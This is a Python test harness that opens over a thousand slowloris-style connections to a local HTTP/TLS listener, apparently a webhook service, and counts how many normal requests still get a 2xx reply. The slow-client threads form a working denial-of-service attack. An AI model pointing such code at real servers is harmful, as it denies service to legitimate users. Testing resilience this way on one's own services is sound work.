#!/usr/bin/env python3
"""Slow clients against one listener, and how many normal requests still succeed.

    hostile.py --port P [--tls CA] --slow N --slow-from ADDR --normal-from ADDR
               --path PATH [--body FILE] [--requests 40] [--interval 1] [--timeout 1]
               [--trickle 2]

N threads each keep one slow connection from ADDR: connect, finish TLS (with --tls), send
the request line and then one header byte every --trickle seconds, never ending the
headers; when the server closes the connection, the thread opens a new one at once (the
pressure stays); when a connection is refused (closed before the TLS handshake completes),
it tries again after --retry seconds, as slowloris tools do (at 0 it is a connection flood,
which no HTTP server can absorb: its queue is the kernel's accept queue). Once every slow client has tried once and --ramp seconds have passed, one normal request a second goes out
from --normal-from on a fresh connection (POST of --body, or GET), and succeeds when a 2xx
answer arrives within --timeout seconds (connect and TLS included). The slow clients run in
a child process (on --slow-cpu), so the normal requests (on --normal-cpu) wait neither for
the slow threads' interpreter lock nor for their CPU: the API server does not share the
attacker's machine.
Prints one line:
    ok=<n> of=<n> pct=<ok/of*100> slow_opened=<connections the slow clients opened>
"""
import argparse
import os
import signal
import socket
import ssl
import threading
import time

STOP = threading.Event()
OPENED = [0]
LOCK = threading.Lock()


def connect(args, src, timeout):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((src, 0))
    s.connect(("127.0.0.1", args.port))
    if args.tls:
        ctx = ssl.create_default_context(cafile=args.tls)
        ctx.check_hostname = False
        s = ctx.wrap_socket(s, server_hostname="capmaas-webhook-service.capmaas-system.svc")
    return s


def slow_client(args, ready):
    first = True
    while not STOP.is_set():
        try:
            s = connect(args, args.slow_from, 10)
        except OSError:
            if first:
                ready.release()
                first = False
            time.sleep(args.retry)  # refused (closed before or during TLS)
            continue
        with LOCK:
            OPENED[0] += 1
        if first:
            ready.release()
            first = False
        try:
            s.sendall(("POST %s HTTP/1.1\r\nHost: x\r\nX-Slow: " % args.path).encode())
            while not STOP.wait(args.trickle):
                s.sendall(b"a")
        except OSError:
            pass
        finally:
            s.close()
    if first:
        ready.release()


def normal_request(args, body):
    t0 = time.monotonic()
    try:
        s = connect(args, args.normal_from, args.timeout)
        if body is None:
            req = "GET %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" % args.path
            s.sendall(req.encode())
        else:
            req = ("POST %s HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                   "Content-Length: %d\r\nConnection: close\r\n\r\n" % (args.path, len(body)))
            s.sendall(req.encode() + body)
        data = b""
        while b"\r\n" not in data:
            left = args.timeout - (time.monotonic() - t0)
            if left <= 0:
                return False
            s.settimeout(left)
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        s.close()
        return data.startswith(b"HTTP/1.1 2")
    except OSError:
        return False


def main():
    p = argparse.ArgumentParser()
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls")
    p.add_argument("--slow", type=int, default=1100)
    p.add_argument("--slow-from", default="127.0.0.2")
    p.add_argument("--normal-from", default="127.0.0.1")
    p.add_argument("--path", required=True)
    p.add_argument("--body")
    p.add_argument("--requests", type=int, default=40)
    p.add_argument("--interval", type=float, default=1.0)
    p.add_argument("--timeout", type=float, default=1.0)
    p.add_argument("--trickle", type=float, default=2.0)
    p.add_argument("--retry", type=float, default=1.0,
                   help="seconds a slow client waits after a refused connection")
    p.add_argument("--slow-cpu", type=int, help="CPU for the slow clients' process")
    p.add_argument("--normal-cpu", type=int, help="CPU for the normal requests' process")
    p.add_argument("--ramp", type=float, default=6.0,
                   help="seconds between the slow clients' first attempts and the first "
                        "normal request (past the header deadline, so that the churn is on)")
    args = p.parse_args()
    body = open(args.body, "rb").read() if args.body else None

    rd, wr = os.pipe()
    child = os.fork()
    if child == 0:
        if args.slow_cpu is not None:
            os.sched_setaffinity(0, {args.slow_cpu})
        os.close(rd)
        run_slow(args, wr)
        os._exit(0)
    os.close(wr)
    if args.normal_cpu is not None:
        os.sched_setaffinity(0, {args.normal_cpu})
    # the child writes one byte per slow client up (or gives up after 30 s)
    up = 0
    deadline = time.monotonic() + 30
    while up < args.slow and time.monotonic() < deadline:
        chunk = os.read(rd, 4096)
        if not chunk:
            break
        up += len(chunk)
    time.sleep(args.ramp)
    ok = 0
    for _ in range(args.requests):
        t0 = time.monotonic()
        ok += normal_request(args, body)
        time.sleep(max(0.0, args.interval - (time.monotonic() - t0)))
    os.kill(child, signal.SIGUSR1)
    opened = os.read(rd, 4096).decode().replace(".", "").strip()
    os.waitpid(child, 0)
    print("ok=%d of=%d pct=%.1f slow_opened=%s" % (ok, args.requests, 100.0 * ok / args.requests,
                                                   opened or "?"))


def run_slow(args, wr):
    threading.stack_size(256 * 1024)
    ready = threading.Semaphore(0)
    threads = [threading.Thread(target=slow_client, args=(args, ready), daemon=True)
               for _ in range(args.slow)]
    for t in threads:
        t.start()
    for _ in threads:
        if not ready.acquire(timeout=30):
            break
        os.write(wr, b".")
    stop = threading.Event()
    signal.signal(signal.SIGUSR1, lambda *_: stop.set())
    stop.wait(3600)
    STOP.set()
    os.write(wr, b"%d\n" % OPENED[0])


if __name__ == "__main__":
    main()
